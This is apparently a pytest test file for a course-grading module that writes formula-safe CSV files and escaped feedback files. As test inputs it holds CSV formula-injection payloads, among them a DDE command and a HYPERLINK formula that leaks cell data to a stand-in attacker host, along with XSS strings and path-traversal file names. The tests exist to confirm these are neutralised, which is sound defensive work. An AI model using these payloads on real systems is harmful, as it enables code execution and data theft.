"""Grading output (trustlab.gradebook): natural question order, student ids, formula-safe CSV
files for the instructor, Canvas and other gradebooks, escaped feedback files that stay in
their folder, and atomic writes. Pure Python: no kernels."""

from __future__ import annotations

import csv
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest

from trustlab import gradebook as gb
from trustlab.gradebook import QuestionResult, SubmissionResult

DANGEROUS = ['=HYPERLINK("http://x","click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
             "\t=1+1", "\r=1+1", "   =1+1", "\n=1+1"]


def starts_like_formula(cell: str) -> bool:
    return cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))


def read_csv(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def result(student="jdoe", path=None, points=(2, 1), possible=(2, 2), **kw) -> SubmissionResult:
    qs = [QuestionResult(f"q{i + 1}", p, m, p == m, message=f"message {i + 1}")
          for i, (p, m) in enumerate(zip(points, possible, strict=True))]
    return SubmissionResult(path or f"submissions/{student}_00-getting-started.ipynb",
                            student, "00-getting-started", qs, **kw)


def hostile(text: str) -> SubmissionResult:
    """A submission whose every student-provided string is `text`."""
    r = result(student=text, path=text, error=text, notes=[text, text], variant="")
    for q in r.questions:
        q.message = q.expected = q.hint = text
    return r


# --------------------------------------------------------------------------- small functions

def test_question_order_is_natural():
    names = ["q10", "q2", "q1", "q10a", "q11", "q3", "q2"]
    assert gb.question_order(names) == ["q1", "q2", "q3", "q10", "q10a", "q11"]


@pytest.mark.parametrize(("path", "expected"), [
    ("submissions/jdoe_00-getting-started.ipynb", "jdoe"),
    ("jdoe-05-practices.ipynb", "jdoe"),
    ("anne-marie_01-history (1).ipynb", "anne-marie"),
    ("jdoe.ipynb", "jdoe"),
    ("00-getting-started.ipynb", "00-getting-started"),            # nothing left: whole stem
    ("doejane_LATE_123456_7890123_00-getting-started.ipynb", "123456"),   # Canvas download
    ("doejane_123456_7890123_jdoe_00-getting-started-1.ipynb", "123456"),
    ("C:\\Users\\me\\subs\\jdoe_02-program.ipynb", "jdoe"),
])
def test_student_id(path, expected):
    assert gb.student_id(path) == expected


def test_result_totals():
    r = result(points=(2, 0.5, 0), possible=(2, 1, 3))
    assert (r.total, r.possible, r.percent) == (2.5, 6, 41.7)
    assert result(points=(), possible=()).percent == 0


@pytest.mark.parametrize("text", DANGEROUS)
def test_spreadsheet_safe_neutralises_formulas(text):
    safe = gb.spreadsheet_safe(text)
    assert safe.startswith("'")
    assert "\t" not in safe and "\r" not in safe and "\n" not in safe


def test_spreadsheet_safe_other_text():
    assert gb.spreadsheet_safe(3) == 3 and gb.spreadsheet_safe(-2.5) == -2.5
    assert gb.spreadsheet_safe("jdoe") == "jdoe"
    assert gb.spreadsheet_safe("line one\nline two\r\nthree") == "line one / line two / three"
    assert gb.spreadsheet_safe("a\x00b\x07c\x1bd") == "abcd"
    long = gb.spreadsheet_safe("x" * 5000)
    assert len(long) <= 500 and long.endswith("…")


def test_summary_line():
    assert gb.summary_line(result(points=(2, 1), seconds=3.21)) == "jdoe  3/4  (3.2 s)"
    broken = result(points=(), possible=(), error="the notebook is not valid JSON",
                    seconds=0.04)
    line = gb.summary_line(broken)
    assert line.startswith("jdoe  not graded") and "not valid JSON" in line
    assert "\n" not in gb.summary_line(hostile("a\nb\x1b[31m"))


# --------------------------------------------------------------------------- CSV files

def test_grades_csv_columns_and_rows(tmp_path):
    rows = [result("jdoe", points=(2, 1)), result("asmith", points=(0, 2), notes=["cell 4 raised"]),
            result("bnone", points=(), possible=(), error="could not read the notebook")]
    rows[0].questions.append(QuestionResult("q10", 1, 1, True))
    rows[0].questions.insert(2, QuestionResult("q9", 0, 1, False))
    out = gb.write_grades_csv(rows, tmp_path / "grades.csv", ["q1", "q2", "q9", "q10"])
    table = read_csv(out)
    assert table[0] == ["student", "submission", "variant", "q1", "q2", "q9", "q10", "total",
                        "possible", "percent", "status", "problem"]
    assert table[1] == ["jdoe", "submissions/jdoe_00-getting-started.ipynb", "", "2", "1", "0",
                        "1", "4", "6", "66.7", "ok", ""]
    assert table[2][-2:] == ["problem", "cell 4 raised"]
    assert table[2][6] == ""                        # asmith has no q10
    assert table[3][-2:] == ["problem", "could not read the notebook"]
    # Opens in Excel with accents intact.
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")


def test_grades_csv_never_hides_points(tmp_path):
    r = result(points=(2, 1, 1), possible=(2, 2, 1))
    table = read_csv(gb.write_grades_csv([r], tmp_path / "g.csv", ["q1"]))
    assert table[0][3:6] == ["q1", "q2", "q3"]


def all_cells(path: Path) -> list[str]:
    return [cell for row in read_csv(path) for cell in row]


@pytest.mark.parametrize("text", DANGEROUS)
def test_every_csv_is_formula_safe(tmp_path, text):
    results = [hostile(text), result()]
    files = [gb.write_grades_csv(results, tmp_path / "grades.csv", ["q1", "q2"]),
             gb.write_generic_csv(results, tmp_path / "generic.csv", text)]
    gb.write_canvas_csv(results, tmp_path / "canvas.csv", text, 4)
    files.append(tmp_path / "canvas.csv")
    for f in files:
        cells = all_cells(f)
        assert any(text.strip() in c for c in cells), f.name     # the text is there ...
        bad = [c for c in cells if starts_like_formula(c)]
        assert not bad, f"{f.name}: {bad}"                         # ... but never as a formula


def test_hyperlink_in_a_message_is_text(tmp_path):
    r = result()
    r.questions[0].message = '=HYPERLINK("http://evil.example/steal?"&A1,"Click for points")'
    r.notes = ['=HYPERLINK("http://x")']
    out = gb.write_grades_csv([r], tmp_path / "grades.csv", ["q1", "q2"])
    problem = read_csv(out)[1][-1]
    assert problem == "'=HYPERLINK(\"http://x\")"


def roster(tmp_path: Path) -> Path:
    path = tmp_path / "roster.csv"
    path.write_text(
        "\ufeffStudent,ID,SIS User ID,SIS Login ID,Section,Exercise 0 (111)\n"
        "    Points Possible,,,,,10\n"
        '"Doe, Jane",1001,S-77,JDoe,Sec A,\n'
        '"Smith, Ann",1002,S-78,asmith@school.edu,Sec B,\n'
        '"Lee, Bo",1003,S-79,blee,Sec A,\n'
        '"=HYPERLINK(""http://x"")",1004,S-80,evil,Sec B,\n',
        encoding="utf-8")
    return path


def test_canvas_without_roster(tmp_path):
    warnings = gb.write_canvas_csv([result("jdoe", points=(2, 2)), result("blee")],
                                   tmp_path / "canvas.csv", "Exercise 0 (111)", 4)
    table = read_csv(tmp_path / "canvas.csv")
    assert table[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section",
                        "Exercise 0 (111)"]
    assert table[1] == ["Points Possible", "", "", "", "", "4"]
    assert table[2] == ["", "", "", "jdoe", "", "4"]
    assert table[3] == ["", "", "", "blee", "", "3"]
    assert warnings == []


def test_canvas_with_roster(tmp_path):
    results = [result("jdoe", points=(2, 2)),           # SIS Login ID, other case
               result("S-79", points=(0, 1)),           # SIS User ID
               result("1002", points=(2, 0)),           # Canvas ID (a Canvas download name)
               result("evil", points=(1, 1)),           # hostile name in the roster
               result("zz-nobody")]                     # not in the roster
    warnings = gb.write_canvas_csv(results, tmp_path / "canvas.csv", "Exercise 0 (111)", 4,
                                   roster=roster(tmp_path))
    table = read_csv(tmp_path / "canvas.csv")
    assert table[1] == ["Points Possible", "", "", "", "", "4"]
    assert table[2:] == [
        ["Doe, Jane", "1001", "S-77", "JDoe", "Sec A", "4"],
        ["Lee, Bo", "1003", "S-79", "blee", "Sec A", "1"],
        ["Smith, Ann", "1002", "S-78", "asmith@school.edu", "Sec B", "2"],
        ["'=HYPERLINK(\"http://x\")", "1004", "S-80", "evil", "Sec B", "2"],
    ]
    assert len(warnings) == 1
    assert "zz-nobody" in warnings[0] and "roster" in warnings[0]


def test_canvas_login_before_at_and_scaling(tmp_path):
    warnings = gb.write_canvas_csv([result("asmith", points=(2, 1))], tmp_path / "c.csv",
                                   "Exercise 0", 10, roster=roster(tmp_path))
    table = read_csv(tmp_path / "c.csv")
    assert table[2] == ["Smith, Ann", "1002", "S-78", "asmith@school.edu", "Sec B", "7.5"]
    assert any("scaled" in w for w in warnings)


def test_canvas_roster_without_sis_columns(tmp_path):
    # A teacher who may not see SIS data gets an export without the SIS columns.
    path = tmp_path / "roster.csv"
    path.write_text("Student,ID,Section\n\"Doe, Jane\",1001,Sec A\n", encoding="utf-8")
    warnings = gb.write_canvas_csv([result("1001")], tmp_path / "c.csv", "Ex", 4, roster=path)
    assert read_csv(tmp_path / "c.csv")[2] == ["Doe, Jane", "1001", "", "", "Sec A", "3"]
    assert warnings == []


def test_huge_text_is_cut(tmp_path):
    r = hostile("=" + "A" * 10_000_000)
    out = gb.write_grades_csv([r], tmp_path / "g.csv", ["q1", "q2"])
    assert max(len(c) for c in all_cells(out)) <= 500
    [page] = gb.write_feedback([r], tmp_path, "html")
    assert page.stat().st_size < 60_000


def test_canvas_skips_ungraded_and_keeps_best(tmp_path):
    results = [result("jdoe", points=(0, 0)), result("jdoe", path="jdoe2.ipynb", points=(2, 1)),
               result("blee", points=(), possible=(), error="not a notebook")]
    warnings = gb.write_canvas_csv(results, tmp_path / "c.csv", "Ex", 4)
    table = read_csv(tmp_path / "c.csv")
    assert table[2:] == [["", "", "", "jdoe", "", "3"]]
    assert any("blee" in w and "not graded" in w for w in warnings)
    assert any("several submissions" in w and "jdoe2.ipynb" in w for w in warnings)


def test_canvas_roster_problems_are_explained(tmp_path):
    with pytest.raises(gb.GradebookError, match="bad.csv has no column Student, ID"):
        bad = tmp_path / "bad.csv"
        bad.write_text("name,email\nJane,j@x\n", encoding="utf-8")
        gb.write_canvas_csv([result()], tmp_path / "c.csv", "Ex", 4, roster=bad)
    with pytest.raises(gb.GradebookError, match="could not read the roster .*missing.csv"):
        gb.write_canvas_csv([result()], tmp_path / "c.csv", "Ex", 4,
                            roster=tmp_path / "missing.csv")
    assert not (tmp_path / "c.csv").exists()


def test_generic_csv(tmp_path):
    when = datetime(2026, 1, 31, 14, 5, 9, 123, tzinfo=UTC)
    rows = [result("jdoe", points=(2, 1)),
            result("blee", points=(), possible=(), error="not a notebook")]
    table = read_csv(gb.write_generic_csv(rows, tmp_path / "g.csv", "Exercise 0", when))
    assert table == [
        ["student_id", "assignment", "score", "max_score", "percent", "status", "graded_at"],
        ["jdoe", "Exercise 0", "3", "4", "75.0", "ok", "2026-01-31T14:05:09Z"],
        ["blee", "Exercise 0", "", "0", "0.0", "problem", "2026-01-31T14:05:09Z"],
    ]
    stamp = read_csv(gb.write_generic_csv(rows, tmp_path / "g.csv", "Ex"))[1][-1]
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", stamp)


# --------------------------------------------------------------------------- atomic writes

def test_failed_write_keeps_the_old_file(tmp_path, monkeypatch):
    out = tmp_path / "grades.csv"
    gb.write_grades_csv([result("jdoe")], out, ["q1", "q2"])
    before = out.read_bytes()
    real_row, calls = gb._grades_row, []

    def failing_row(r, questions):
        calls.append(r)
        if len(calls) == 2:
            raise KeyboardInterrupt                          # the instructor pressed Ctrl-C
        return real_row(r, questions)

    monkeypatch.setattr(gb, "_grades_row", failing_row)
    with pytest.raises(KeyboardInterrupt):
        gb.write_grades_csv([result("a"), result("b"), result("c")], out, ["q1", "q2"])
    assert len(calls) == 2                                     # it failed midway
    assert out.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["grades.csv"]   # no temporary file left


def test_unwritable_folder_is_explained(tmp_path):
    blocker = tmp_path / "not-a-folder"
    blocker.write_text("", encoding="utf-8")
    with pytest.raises(gb.GradebookError, match="could not write .*not-a-folder"):
        gb.write_grades_csv([result()], blocker / "grades.csv", ["q1"])


# --------------------------------------------------------------------------- feedback

def test_feedback_markdown(tmp_path):
    r = result(points=(2, 0), notes=["Cell 3 raised `NameError`."], error="")
    r.questions[1].message = "Your `total` is wrong <script>alert(1)</script> [x](javascript:a)"
    r.questions[1].expected = "`42`"
    r.questions[1].hint = "Use `sum(values)`."
    r.questions[0].message = "# Full marks\n- really\n1. yes"
    [path] = gb.write_feedback([r], tmp_path, "md")
    assert path == tmp_path / "jdoe.md"
    text = path.read_text(encoding="utf-8")
    assert text.startswith("# Feedback on 00-getting-started: jdoe\n")
    assert "**Score: 2 of 4 points (50.0%)**" in text
    assert "### q1: passed (2 of 2 points)" in text
    assert "### q2: not passed (0 of 2 points)" in text
    assert "Your `total` is wrong &lt;script&gt;alert\\(1\\)&lt;/script&gt; " \
           "\\[x\\]\\(javascript:a\\)" in text
    assert "Expected: `42`" in text and "Hint: Use `sum(values)`." in text
    assert "\\# Full marks  \n\\- really  \n1\\. yes" in text    # no heading, list or item
    assert "- Cell 3 raised `NameError`." in text
    assert "<script>" not in text
    assert "grade" in text.splitlines()[-1]
    assert text.index("### q1") < text.index("### q2") < text.index("Notes on your notebook")


def test_feedback_html(tmp_path):
    r = result(points=(2, 0), error="<img src=x onerror=alert(1)>")
    r.questions[1].message = "<script>alert('x')</script> Check `df[\"a\"] < 3` again"
    r.notes = ["a `<b>` note"]
    [path] = gb.write_feedback([r], tmp_path, "html")
    assert path == tmp_path / "jdoe.html"
    page = path.read_text(encoding="utf-8")
    assert page.startswith("<!DOCTYPE html>") and '<html lang="en">' in page
    assert "<title>Feedback on 00-getting-started: jdoe</title>" in page
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in page
    assert "<code>df[&quot;a&quot;] &lt; 3</code>" in page
    assert "<code>&lt;b&gt;</code>" in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "<script" not in page.lower() and "<img" not in page
    assert "http" not in page.replace("http-equiv", "")                 # nothing outside
    assert '<th scope="row">q2</th><td class="not-passed">Not passed</td>' in page


@pytest.mark.parametrize("fmt", ["md", "html"])
def test_feedback_files_stay_in_their_folder(tmp_path, fmt):
    folder = tmp_path / "feedback"
    ids = ["../../etc/passwd", "..", "/abs/path", "..\\..\\win", "CON", "", "jdoe", "JDOE",
           "a\x00b", "é/../x"]
    paths = gb.write_feedback([result(s) for s in ids], folder, fmt)
    assert len(paths) == len(set(paths)) == len(ids)
    for p in paths:
        assert p.parent == folder and p.exists() and p.suffix == f".{fmt}"
        assert ".." not in p.name and "/" not in p.name and "\\" not in p.name
    assert sorted(folder.iterdir()) == sorted(paths)
    assert [p.name for p in tmp_path.iterdir()] == ["feedback"]       # nothing written outside
    assert paths[0].name == f"etc_passwd.{fmt}" and paths[6].name == f"jdoe.{fmt}"
    assert paths[7].name == f"JDOE-2.{fmt}"                  # same name on a Windows disk


def test_feedback_unknown_format(tmp_path):
    with pytest.raises(gb.GradebookError, match="'pdf'"):
        gb.write_feedback([result()], tmp_path, "pdf")
